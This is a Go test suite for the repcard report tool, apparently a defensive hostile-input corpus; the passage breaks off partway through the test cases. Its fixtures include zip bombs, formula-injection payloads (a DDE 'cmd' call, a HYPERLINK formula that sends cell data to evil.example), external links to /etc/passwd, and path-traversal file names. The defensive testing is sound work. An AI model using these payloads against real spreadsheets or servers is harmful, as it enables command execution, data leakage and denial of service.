package main

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"hash/crc32"
	"io"
	"maps"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/repcard/repcard"
	"github.com/repcard/repcard/output"
	"github.com/repcard/repcard/teamxlsx"
)

// The hostile suite runs repcard as a process of its own (the test binary
// as the command: a crash or a memory blow-up must not take the suite down)
// on an inbox holding one good file and one hostile or broken file, and
// checks that nothing crashes, that the good file's numbers are exactly what
// they are without the bad one, that the run found an issue of the right
// kind for the bad file and data-issues.csv lists it, and that the exit code
// is 1. Small hostile files are committed under testdata/hostile (go test
// -run TestHostileCorpus -update-hostile rewrites them from the builders
// below); large ones are generated into t.TempDir().

var updateHostile = flag.Bool("update-hostile", false, "rewrite testdata/hostile from the builders in hostile_test.go")

const hostileDir = "testdata/hostile"

// goodName is the good file every case runs beside; it sorts first, so
// that a limit on the inbox's total rows is reached after it.
const goodName = "0-good.csv"

const goodCSV = "Rep,Date,Type,Outcome,Amount,Loss reason\n" +
	"Gina Good,2026-10-01,call,Not interested,,budget\n" +
	"Gina Good,2026-10-02,call,Won,1200,\n" +
	"Gina Good,2026-10-09,meeting,Won,800.50,\n" +
	"Gina Good,2026-10-14,email,Rejected,,went with a competitor\n" +
	"Gina Good,2026-10-20,email,,,\n" +
	"Gina Good,2026-09-15,call,Won,300,\n"

// period pins the report's period: a hostile date must not move it.
const period = "2026-10"

// ---- building workbooks by hand ----

// part is one file inside a zip.
type part struct{ name, body string }

// zipOf zips parts, deterministically.
func zipOf(parts ...part) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, p := range parts {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: p.name, Method: zip.Deflate, Modified: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)})
		if err != nil {
			panic(err)
		}
		io.WriteString(w, p.body)
	}
	if err := zw.Close(); err != nil {
		panic(err)
	}
	return buf.Bytes()
}

const (
	nsMain = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"`
	nsRel  = `xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
	relWS  = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
	relSST = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
)

// book is a workbook to build by hand: its sheets' XML, shared strings (nil
// for none), and more parts and workbook relationships.
type book struct {
	sheets    []sheet
	sst       []string
	extraRels string
	extra     []part
}

type sheet struct{ name, xml string }

func (b book) parts() []part {
	var wb, rels strings.Builder
	for i, s := range b.sheets {
		fmt.Fprintf(&wb, `<sheet name="%s" sheetId="%d" r:id="rId%d"/>`, s.name, i+1, i+1)
		fmt.Fprintf(&rels, `<Relationship Id="rId%d" Type="%s" Target="worksheets/sheet%d.xml"/>`, i+1, relWS, i+1)
	}
	if b.sst != nil {
		fmt.Fprintf(&rels, `<Relationship Id="rIdS" Type="%s" Target="sharedStrings.xml"/>`, relSST)
	}
	rels.WriteString(b.extraRels)
	ps := []part{
		{"[Content_Types].xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`},
		{"_rels/.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`},
		{"xl/workbook.xml", `<?xml version="1.0" encoding="UTF-8"?><workbook ` + nsMain + ` ` + nsRel + `><sheets>` + wb.String() + `</sheets></workbook>`},
		{"xl/_rels/workbook.xml.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` + rels.String() + `</Relationships>`},
	}
	for i, s := range b.sheets {
		ps = append(ps, part{fmt.Sprintf("xl/worksheets/sheet%d.xml", i+1), s.xml})
	}
	if b.sst != nil {
		var sb strings.Builder
		fmt.Fprintf(&sb, `<?xml version="1.0" encoding="UTF-8"?><sst %s count="%d" uniqueCount="%d">`, nsMain, len(b.sst), len(b.sst))
		for _, s := range b.sst {
			sb.WriteString("<si><t>" + s + "</t></si>")
		}
		sb.WriteString("</sst>")
		ps = append(ps, part{"xl/sharedStrings.xml", sb.String()})
	}
	return append(ps, b.extra...)
}

func (b book) bytes() []byte { return zipOf(b.parts()...) }

// sheetXML is a worksheet holding rows.
func sheetXML(rows ...string) string {
	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet ` + nsMain + ` ` + nsRel + `><sheetData>` + strings.Join(rows, "") + `</sheetData></worksheet>`
}

func row(n int, cells ...string) string {
	return fmt.Sprintf(`<row r="%d">%s</row>`, n, strings.Join(cells, ""))
}

// str is an inline string cell; text is XML already.
func str(ref, text string) string {
	return fmt.Sprintf(`<c r="%s" t="inlineStr"><is><t>%s</t></is></c>`, ref, text)
}

func num(ref, v string) string { return fmt.Sprintf(`<c r="%s"><v>%s</v></c>`, ref, v) }

func shared(ref string, i int) string { return fmt.Sprintf(`<c r="%s" t="s"><v>%d</v></c>`, ref, i) }

// formula is a formula cell with the value Excel saved for it (none when
// cached is ""); typ "str" marks a text result.
func formula(ref, f, cached, typ string) string {
	t := ""
	if typ != "" {
		t = ` t="` + typ + `"`
	}
	v := ""
	if cached != "" {
		v = "<v>" + cached + "</v>"
	}
	return fmt.Sprintf(`<c r="%s"%s><f>%s</f>%s</c>`, ref, t, f, v)
}

// activityHeader is row 1 of the hand-built activity sheets.
func activityHeader() string {
	return row(1, str("A1", "Rep"), str("B1", "Date"), str("C1", "Type"), str("D1", "Outcome"), str("E1", "Amount"))
}

// serial is the Excel serial of 2026-10-n.
func serial(n int) string { return fmt.Sprint(46295 + n) }

// ---- the committed corpus ----

// hostileCorpus returns the committed hostile files by name.
func hostileCorpus() map[string][]byte {
	files := map[string][]byte{}

	// A sheet whose XML stops in the middle of row 4: rows 2 and 3 are read.
	trunc := sheetXML(activityHeader(),
		row(2, str("A2", "Tina Truncated"), num("B2", serial(3)), str("C2", "call"), str("D2", "Won"), num("E2", "100")),
		row(3, str("A3", "Tina Truncated"), num("B3", serial(4)), str("C3", "call"), str("D3", "Won"), num("E3", "200")),
		row(4, str("A4", "Tina Truncated"), num("B4", serial(5)), str("C4", "call"), str("D4", "Won"), num("E4", "400")))
	trunc = trunc[:strings.Index(trunc, `<row r="4">`)+40]
	files["truncated-sheet.xlsx"] = book{sheets: []sheet{{"Calls", trunc}}}.bytes()

	// A workbook cut short in the copy: half its bytes.
	whole := book{sheets: []sheet{{"Calls", sheetXML(activityHeader(),
		row(2, str("A2", "Cut Short"), num("B2", serial(3)), str("C2", "call")))}}}.bytes()
	files["truncated-zip.xlsx"] = whole[:len(whole)/2]

	// The first 512 bytes of an OLE compound file (an .xls, a .doc, an
	// encrypted .xlsx all start so), named .xlsx and as itself.
	ole := make([]byte, 512)
	copy(ole, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1")
	copy(ole[24:], "\x3E\x00\x03\x00\xFE\xFF\x09\x00")
	files["xls-renamed.xlsx"] = ole
	files["old.xls"] = ole

	// An .xlsb (binary workbook, a zip of .bin parts), named .xlsx and as
	// itself.
	xlsb := zipOf(
		part{"[Content_Types].xml", `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>`},
		part{"_rels/.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.bin"/></Relationships>`},
		part{"xl/workbook.bin", "\x83\x01\x00\x80\x01\x00\x99\x01\x04\x00\x00\x00\x00\x00"},
		part{"xl/worksheets/sheet1.bin", "\x81\x01\x00\x93\x01\x17\x00"})
	files["xlsb-renamed.xlsx"] = xlsb
	files["binary.xlsb"] = xlsb

	// Random bytes named .csv.
	rnd := rand.New(rand.NewPCG(7, 7))
	noise := make([]byte, 4096)
	for i := range noise {
		noise[i] = byte(rnd.Uint32())
	}
	files["random.csv"] = noise

	// Formulas: the saved values are used and never recomputed (the stale
	// "=1/0" saved as 700 reads 700; the external reference is not
	// followed); a formula saved without a value reads blank (a warning);
	// row 6 refers to a shared string the workbook does not have.
	files["formulas.xlsx"] = book{
		sheets: []sheet{{"Calls", sheetXML(
			row(1, shared("A1", 0), shared("B1", 1), shared("C1", 2), shared("D1", 3), shared("E1", 4)),
			row(2, formula("A2", `"Fred "&amp;"Formula"`, "Fred Formula", "str"), num("B2", serial(5)), shared("C2", 5), shared("D2", 6), formula("E2", "2*500", "1000", "")),
			row(3, shared("A3", 7), num("B3", serial(6)), shared("C3", 5), shared("D3", 6), formula("E3", "[1]Prices!A1", "250", "")),
			row(4, shared("A4", 7), formula("B4", "DATE(2026,10,7)", serial(7), ""), shared("C4", 5), shared("D4", 6), formula("E4", "1/0", "700", "")),
			row(5, shared("A5", 7), num("B5", serial(8)), shared("C5", 5), shared("D5", 6), formula("E5", "WEBSERVICE(&quot;http://127.0.0.1:9/x&quot;)", "", "")),
			row(6, shared("A6", 7), num("B6", serial(9)), shared("C6", 5), shared("D6", 99), num("E6", "50")),
		)}},
		sst:       []string{"Rep", "Date", "Type", "Outcome", "Amount", "call", "Won", "Fred Formula"},
		extraRels: `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/><Relationship Id="rIdE" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="file:///etc/passwd" TargetMode="External"/>`,
		extra: []part{
			{"xl/externalLinks/externalLink1.xml", `<?xml version="1.0" encoding="UTF-8"?><externalLink ` + nsMain + ` ` + nsRel + `><externalBook r:id="rId1"><sheetNames><sheetName val="Prices"/></sheetNames></externalBook></externalLink>`},
			{"xl/externalLinks/_rels/externalLink1.xml.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="http://127.0.0.1:9/prices.xlsx" TargetMode="External"/></Relationships>`},
		},
	}.bytes()

	// A sheet listed in the workbook whose part is a file outside it.
	files["external-sheet.xlsx"] = func() []byte {
		b := book{sheets: []sheet{{"Calls", sheetXML(activityHeader(),
			row(2, str("A2", "Ella External"), num("B2", serial(3)), str("C2", "call"), str("D2", "Won"), num("E2", "90")))}}}
		ps := b.parts()
		ps[2].body = strings.Replace(ps[2].body, `</sheets>`, `<sheet name="Secrets" sheetId="9" r:id="rIdE"/></sheets>`, 1)
		ps[3].body = strings.Replace(ps[3].body, `</Relationships>`, `<Relationship Id="rIdE" Type="`+relWS+`" Target="file:///etc/passwd" TargetMode="External"/></Relationships>`, 1)
		return zipOf(ps...)
	}()

	// Dates that are not dates: text, negative serials, year 9999.
	files["dates.xlsx"] = book{sheets: []sheet{{"Calls", sheetXML(activityHeader(),
		row(2, str("A2", "Dora Dates"), num("B2", serial(3)), str("C2", "call"), str("D2", "Won"), num("E2", "100")),
		row(3, str("A3", "Dora Dates"), str("B3", "next Tuesday"), str("C3", "call")),
		row(4, str("A4", "Dora Dates"), num("B4", "-45000"), str("C4", "call")),
		row(5, str("A5", "Dora Dates"), num("B5", "2958465"), str("C5", "call")),
		row(6, str("A6", "Dora Dates"), str("B6", "9999-12-31"), str("C6", "call")),
		row(7, str("A7", "Dora Dates"), num("B7", "-1"), str("C7", "call")),
	)}}}.bytes()
	files["dates.csv"] = []byte("Rep,Date,Type,Outcome\n" +
		"Dan Dates,2026-10-03,call,Won\n" +
		"Dan Dates,yesterday-ish,call,\n" +
		"Dan Dates,-45000,call,\n" +
		"Dan Dates,9999-12-31,call,\n" +
		"Dan Dates,31/12/9999,call,\n" +
		"Dan Dates,2958465,call,\n")

	// Rep names that try to choose a path, a device, a formula or a
	// different display; NUL and bytes that are not UTF-8; an empty name; a
	// 10,000-character name; two names with the same slug.
	long := strings.Repeat("Looooong ", 1111) + "N" // 10,000 characters
	names := []string{"../../x", "CON", `=HYPERLINK("http://x")`, "Nul\x00Byte", "\u202eevil\u202c Reversed",
		"José Müller", "Jose Muller", long, "@SUM(A1)", "-2+3 Minus", "+44 Plus", "\tTab Start", "/etc/passwd", `C:\Windows\win.ini`, "..", "."}
	var nb strings.Builder
	nb.WriteString("Rep,Date,Type,Outcome,Amount\n")
	for i, n := range names {
		fmt.Fprintf(&nb, "%s,2026-10-%02d,call,Won,%d\n", csvQuote(n), i+1, 10*(i+1))
	}
	nb.WriteString(",2026-10-05,call,Won,5\n") // no rep
	files["names.csv"] = []byte(nb.String())
	// A roster whose managers and offices are hostile too: managers get
	// PDFs of their own.
	files["names-roster.csv"] = []byte("Rep,Manager,Office\n" +
		"../../x,../../boss,\"=cmd|' /C calc'!A0\"\n" +
		"CON,NUL,..\n" +
		"José Müller,\x1b[2J Clear,Oslo\n")
	// Bytes that are not UTF-8 make a CSV file Windows-1252 as a whole.
	files["names-cp1252.csv"] = []byte("Rep,Date,Type,Outcome\nBad\xff\xfeUTF,2026-10-03,call,Won\n,2026-10-04,call,Won\n")

	// The same in a workbook: control characters escaped as Excel does
	// (_x0007_), a raw byte that is not UTF-8, and a hostile sheet name.
	files["names.xlsx"] = book{sheets: []sheet{{`=cmd|' /C calc'!A0`, sheetXML(activityHeader(),
		row(2, str("A2", "Bell_x0007_Ringer"), num("B2", serial(2)), str("C2", "call"), str("D2", "Won"), num("E2", "11")),
		row(3, str("A3", "Esc_x001B_[31mRed"), num("B3", serial(3)), str("C3", "call"), str("D3", "Won"), num("E3", "12")),
		row(4, str("A4", "Raw\xff\xfeBytes"), num("B4", serial(4)), str("C4", "call"), str("D4", "Won"), num("E4", "13")),
		row(5, str("A5", "../../x"), num("B5", serial(5)), str("C5", "call"), str("D5", "Won"), num("E5", "14")),
		row(6, str("A6", ""), num("B6", serial(6)), str("C6", "call"), str("D6", "Won"), num("E6", "15")),
	)}}}.bytes()

	files["empty.csv"] = nil
	files["empty.xlsx"] = nil
	files["blank-lines.csv"] = []byte("\n\r\n   \n\n")

	// A sheet with data in its first rows and a last row at 1,048,576,
	// Excel's limit: everything between is empty.
	files["last-row-1048576.xlsx"] = book{sheets: []sheet{{"Calls", sheetXML(activityHeader(),
		row(2, str("A2", "Rowan Rows"), num("B2", serial(3)), str("C2", "call"), str("D2", "Won"), num("E2", "100")),
		row(3, str("A3", "Rowan Rows"), num("B3", serial(4)), str("C3", "call"), str("D3", "Won"), num("E3", "200")),
		row(1048576, str("A1048576", "Rowan Rows"), str("C1048576", "call")),
	)}}}.bytes()

	// A formula-injection payload as a file name, and in cells that end
	// up in data-issues.csv.
	files["=HYPERLINK(1).csv"] = []byte("Rep,Date,Type,Outcome\n" +
		"Ivy Inject,2026-10-03,call,Won\n" +
		`Ivy Inject,"=HYPERLINK(""http://evil.example/?""&A1)",call,` + "\n" +
		"Ivy Inject,+1-555-0100,call,\n" +
		"Ivy Inject,-2+3,call,\n" +
		"Ivy Inject,@SUM(A1:A9),call,\n" +
		"Ivy Inject,\"\tTAB\",call,\n")
	// Sheet names starting with a tab and a carriage return, each with a
	// row left out.
	bad := sheetXML(activityHeader(), row(2, str("A2", ""), num("B2", serial(3)), str("C2", "call")))
	files["injection.xlsx"] = book{sheets: []sheet{{"&#9;Tab sheet", bad}, {"&#13;CR sheet", bad}, {"@Sheet", bad}}}.bytes()
	return files
}

// csvQuote quotes a CSV field when it needs it.
func csvQuote(s string) string {
	if strings.ContainsAny(s, "\",\n\r") {
		return `"` + strings.ReplaceAll(s, `"`, `""`) + `"`
	}
	return s
}

// TestHostileCorpus checks that the committed files are what the builders
// make (run with -update-hostile to rewrite them) and small.
func TestHostileCorpus(t *testing.T) {
	files := hostileCorpus()
	if *updateHostile {
		old, _ := os.ReadDir(hostileDir)
		for _, e := range old {
			if e.Name() != "README.md" {
				os.Remove(filepath.Join(hostileDir, e.Name()))
			}
		}
		os.MkdirAll(hostileDir, 0o755)
		for name, b := range files {
			if err := os.WriteFile(filepath.Join(hostileDir, name), b, 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	entries, err := os.ReadDir(hostileDir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if _, ok := files[e.Name()]; !ok && e.Name() != "README.md" {
			t.Errorf("%s is not made by hostileCorpus", e.Name())
		}
	}
	for name, want := range files {
		got, err := os.ReadFile(filepath.Join(hostileDir, name))
		if err != nil {
			t.Errorf("%v (run go test -run TestHostileCorpus -update-hostile)", err)
			continue
		}
		if !bytes.Equal(got, want) {
			t.Errorf("%s differs from what hostileCorpus makes (run go test -run TestHostileCorpus -update-hostile)", name)
		}
		if len(got) > 100<<10 {
			t.Errorf("%s is %d KB: generate large files in the test instead", name, len(got)>>10)
		}
	}
}

// ---- generated files ----

// writeBomb writes a workbook whose sheet is prefix and then n bytes of '0',
// deflated, declaring claim bytes unzipped (0: the true size).
func writeBomb(t *testing.T, path string, n int64, claim uint64) {
	t.Helper()
	var comp bytes.Buffer
	fw, _ := flate.NewWriter(&comp, flate.BestCompression)
	crc := crc32.NewIEEE()
	w := io.MultiWriter(fw, crc)
	prefix := `<?xml version="1.0" encoding="UTF-8"?><worksheet ` + nsMain + `><sheetData>`
	io.WriteString(w, prefix)
	chunk := bytes.Repeat([]byte("0"), 1<<20)
	for left := n; left > 0; left -= int64(len(chunk)) {
		w.Write(chunk[:min(left, int64(len(chunk)))])
	}
	fw.Close()
	if claim == 0 {
		claim = uint64(int64(len(prefix)) + n)
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	b := book{sheets: []sheet{{"Calls", ""}}}
	for _, p := range b.parts() {
		if p.name == "xl/worksheets/sheet1.xml" {
			fh := &zip.FileHeader{Name: p.name, Method: zip.Deflate, CRC32: crc.Sum32(), CompressedSize64: uint64(comp.Len()), UncompressedSize64: claim}
			raw, err := zw.CreateRaw(fh)
			if err != nil {
				t.Fatal(err)
			}
			raw.Write(comp.Bytes())
			continue
		}
		fw, _ := zw.Create(p.name)
		io.WriteString(fw, p.body)
	}
	zw.Close()
	writeBytes(t, path, buf.Bytes())
}

// writeStreamed writes a workbook with one streamed part: the sheet, or the
// shared strings when sst is set, made of head, n copies of unit, tail.
func writeStreamed(t *testing.T, path string, sst bool, head, unit, tail string, n int) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	zw := zip.NewWriter(f)
	b := book{sheets: []sheet{{"Calls", sheetXML(activityHeader(),
		row(2, str("A2", "Sam Streamed"), num("B2", serial(3)), str("C2", "call"), str("D2", "Won"), num("E2", "77")))}}}
	if sst {
		b.sst = []string{}
	}
	big := "xl/worksheets/sheet1.xml"
	if sst {
		big = "xl/sharedStrings.xml"
	}
	for _, p := range b.parts() {
		w, _ := zw.Create(p.name)
		if p.name != big {
			io.WriteString(w, p.body)
			continue
		}
		io.WriteString(w, head)
		chunk := strings.Repeat(unit, max(1, (64<<10)/len(unit)))
		per := len(chunk) / len(unit)
		for left := n; left > 0; left -= per {
			if left < per {
				chunk = strings.Repeat(unit, left)
			}
			io.WriteString(w, chunk)
		}
		io.WriteString(w, tail)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
}

func writeBytes(t *testing.T, path string, b []byte) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

// ---- running ----

// hostileResult is one run of repcard over an inbox.
type hostileResult struct {
	code    int
	stderr  string
	dir     string // the run's folder: inbox/, out/, config.yaml
	out     string // out/<period>
	metrics []byte
	issues  [][]string      // data-issues.csv records, header excluded
	found   []repcard.Issue // the issues and warnings of the run, with their kinds
	maxRSS  int64           // bytes, 0 when unknown
}

// templatesDir is the repository's coaching templates.
func templatesDir(t *testing.T) string {
	t.Helper()
	p, err := filepath.Abs(filepath.Join("..", "..", "templates"))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// runInbox runs "repcard run" on dir/inbox with config (YAML after the
// templates line), bounded in time as a guard against a hang.
func runInbox(t *testing.T, dir, config string) hostileResult {
	t.Helper()
	cfg := fmt.Sprintf("templates: %q\n%s", templatesDir(t), config)
	writeBytes(t, filepath.Join(dir, "config.yaml"), []byte(cfg))
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	issuesPath := filepath.Join(t.TempDir(), "issues.json") // not in dir: some cases check every file there
	cmd := repcardCmd(ctx, "run", "-config", "config.yaml", "-in", "inbox", "-out", "out", "-period", period, "-quiet", "-workers", "1")
	cmd.Dir = dir
	cmd.Env = append(cmd.Env, issuesEnv+"="+issuesPath)
	var errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = io.Discard, &errb
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	err := cmd.Wait()
	res := hostileResult{dir: dir, out: filepath.Join(dir, "out", period), stderr: errb.String()}
	if ctx.Err() != nil {
		t.Fatalf("repcard did not finish in %v: %s", 90*time.Second, res.stderr)
	}
	var ee *exec.ExitError
	switch {
	case errors.As(err, &ee):
		res.code = ee.ExitCode()
	case err != nil:
		t.Fatal(err)
	}
	if ru, ok := cmd.ProcessState.SysUsage().(*syscall.Rusage); ok && runtime.GOOS == "linux" {
		res.maxRSS = int64(ru.Maxrss) << 10
	}
	res.metrics, _ = os.ReadFile(filepath.Join(res.out, "metrics.json"))
	if b, err := os.ReadFile(issuesPath); err == nil {
		if err := json.Unmarshal(b, &res.found); err != nil {
			t.Fatalf("the run's issues: %v", err)
		}
	}
	if b, err := os.ReadFile(filepath.Join(res.out, "data-issues.csv")); err == nil {
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatalf("data-issues.csv does not read back: %v", err)
		}
		if len(recs) > 0 {
			res.issues = recs[1:]
		}
	}
	return res
}

// repEntry returns the raw JSON of rep's entry in metrics.json.
func repEntry(t *testing.T, metrics []byte, rep string) []byte {
	t.Helper()
	var m struct{ Reps []json.RawMessage }
	if err := json.Unmarshal(metrics, &m); err != nil {
		t.Fatalf("metrics.json: %v", err)
	}
	for _, raw := range m.Reps {
		var r struct{ Rep string }
		json.Unmarshal(raw, &r)
		if r.Rep == rep {
			return raw
		}
	}
	return nil
}

// withoutRank splits a rep's entry of metrics.json into the entry without
// its "rank" and the rank.
func withoutRank(t *testing.T, entry []byte) (own, rank []byte) {
	t.Helper()
	var m map[string]json.RawMessage
	if err := json.Unmarshal(entry, &m); err != nil {
		t.Fatalf("rep entry: %v", err)
	}
	rank = m["rank"]
	delete(m, "rank")
	own, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return own, rank
}

// repField returns one field of rep's entry in metrics.json.
func repField(t *testing.T, metrics []byte, rep, field string) any {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(repEntry(t, metrics, rep), &m); err != nil {
		t.Fatalf("no rep %q in metrics.json", rep)
	}
	return m[field]
}

// baseline is the run on the good file alone.
var baseline struct {
	entry []byte
	pdf   []byte
}

func runBaseline(t *testing.T) {
	t.Helper()
	dir := t.TempDir()
	writeBytes(t, filepath.Join(dir, "inbox", goodName), []byte(goodCSV))
	res := runInbox(t, dir, "")
	if res.code != exitOK {
		t.Fatalf("the good file alone: exit %d\n%s", res.code, res.stderr)
	}
	baseline.entry = repEntry(t, res.metrics, "Gina Good")
	if baseline.entry == nil {
		t.Fatal("no Gina Good in metrics.json")
	}
	var err error
	if baseline.pdf, err = os.ReadFile(filepath.Join(res.out, "reps", "gina-good.pdf")); err != nil {
		t.Fatal(err)
	}
}

// wantIssue is an issue the run must find, and data-issues.csv must list:
// the file, a row (0: any), its kind, and words its detail must hold (the
// config key of a limit), if any.
type wantIssue struct {
	file   string
	row    int
	kind   repcard.IssueKind
	detail string
}

// checkRun checks what every hostile run must show.
func checkRun(t *testing.T, res hostileResult, want []wantIssue) {
	t.Helper()
	wantCode := exitLeftOut
	if len(want) == 0 {
		wantCode = exitOK // nothing of the bad file is left out
	}
	if res.code != wantCode {
		t.Errorf("exit %d, want %d\n%s", res.code, wantCode, res.stderr)
	}
	if strings.Contains(res.stderr, "panic") || strings.Contains(res.stderr, "goroutine ") {
		t.Fatalf("crashed:\n%s", res.stderr)
	}
	t.Logf("max RSS %d MB", res.maxRSS>>20)
	if res.maxRSS > 600<<20 {
		t.Errorf("used %d MB of memory", res.maxRSS>>20)
	}
	// Gina's place on value per contact is among the run's reps, and the
	// bad file may bring others: her numbers are compared without it, her
	// PDF when her place is the same.
	got := repEntry(t, res.metrics, "Gina Good")
	gotOwn, gotRank := withoutRank(t, got)
	wantOwn, wantRank := withoutRank(t, baseline.entry)
	if !bytes.Equal(gotOwn, wantOwn) {
		t.Errorf("the good file's numbers changed:\n%s\nwant\n%s", got, baseline.entry)
	}
	if pdf, err := os.ReadFile(filepath.Join(res.out, "reps", "gina-good.pdf")); err != nil || bytes.Equal(gotRank, wantRank) && !bytes.Equal(pdf, baseline.pdf) {
		t.Errorf("the good rep's PDF differs from the run without the bad file (%v)", err)
	}
	for _, w := range want {
		i := slices.IndexFunc(res.found, func(f repcard.Issue) bool {
			return f.File == w.file && (w.row == 0 || f.Row == w.row) && f.Kind == w.kind && strings.Contains(f.Detail, w.detail)
		})
		if i < 0 {
			t.Errorf("no issue %s for %s row %d with %q in its detail; the run found:\n%s", w.kind, w.file, w.row, w.detail, foundText(res.found))
			continue
		}
		if !listed(res.issues, res.found[i]) {
			t.Errorf("data-issues.csv does not list %+v; it has:\n%s", res.found[i], issueText(res.issues))
		}
	}
	for _, is := range res.issues {
		if is[0] == "" || is[5] == "" {
			t.Errorf("issue without a file or a reason: %q", is)
		}
		for _, cell := range is {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("data-issues.csv cell %q would start a formula in a spreadsheet program", cell)
			}
		}
	}
}

// listed reports whether data-issues.csv's records list is: its file (as
// data-issues.csv neutralises a formula), its row, and its sentence.
func listed(records [][]string, is repcard.Issue) bool {
	for _, r := range records {
		row := ""
		if is.Row > 0 {
			row = fmt.Sprint(is.Row)
		}
		if strings.TrimPrefix(r[0], "'") == is.File && r[2] == row && strings.HasSuffix(r[5], is.Reason()) {
			return true
		}
	}
	return false
}

func foundText(issues []repcard.Issue) string {
	var b strings.Builder
	for _, is := range issues {
		fmt.Fprintf(&b, "  %s row %d: %s %q\n", is.File, is.Row, is.Kind, is.Detail)
	}
	return b.String()
}

func issueText(issues [][]string) string {
	var b strings.Builder
	for _, is := range issues {
		fmt.Fprintf(&b, "  %q\n", is)
	}
	return b.String()
}

// hostileCase is one bad file (or more) beside the good one.
type hostileCase struct {
	name   string
	files  []string                              // committed files to copy into the inbox
	make   func(t *testing.T, inbox string)      // files to generate into the inbox
	config string                                // YAML: limits
	want   []wantIssue                           // lines data-issues.csv must have
	check  func(t *testing.T, res hostileResult) // more checks
}

func TestHostileInputs(t *testing.T) {
	runBaseline(t)
	for _, c := range hostileCases() {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			inbox := filepath.Join(dir, "inbox")
			writeBytes(t, filepath.Join(inbox, goodName), []byte(goodCSV))
			for _, name := range c.files {
				b, err := os.ReadFile(filepath.Join(hostileDir, name))
				if err != nil {
					t.Fatal(err)
				}
				writeBytes(t, filepath.Join(inbox, name), b)
			}
			if c.make != nil {
				c.make(t, inbox)
			}
			res := runInbox(t, dir, c.config)
			checkRun(t, res, c.want)
			if c.check != nil && res.metrics != nil {
				c.check(t, res)
			}
		})
	}
}

func hostileCases() []hostileCase {
	return []hostileCase{
		{
			name: "zip bomb claiming 8 GB",
			make: func(t *testing.T, inbox string) {
				writeBomb(t, filepath.Join(inbox, "bomb.xlsx"), 8<<20, 8<<30)
			},
			want: []wantIssue{{"bomb.xlsx", 0, repcard.IssueOverLimit, "limits.max_unzip_mb"}},
		},
		{
			name:   "zip bomb over max_unzip_mb",
			config: "limits: {max_unzip_mb: 16}\n",
			make: func(t *testing.T, inbox string) {
				writeBomb(t, filepath.Join(inbox, "bomb.xlsx"), 64<<20, 0)
			},
			want: []wantIssue{{"bomb.xlsx", 0, repcard.IssueOverLimit, "limits.max_unzip_mb"}},
		},
		{
			name: "zip bomb lying about its size",
			make: func(t *testing.T, inbox string) {
				writeBomb(t, filepath.Join(inbox, "bomb.xlsx"), 8<<20, 1024)
			},
			want: []wantIssue{{"bomb.xlsx", 0, repcard.IssueDamaged, ""}},
		},
		{
			name:   "shared strings bomb",
			config: "limits: {max_unzip_mb: 8, max_xml_memory_mb: 1}\n",
			make: func(t *testing.T, inbox string) {
				writeStreamed(t, filepath.Join(inbox, "strings.xlsx"), true, `<sst `+nsMain+`>`, "<si/>", "</sst>", 7<<20/5)
			},
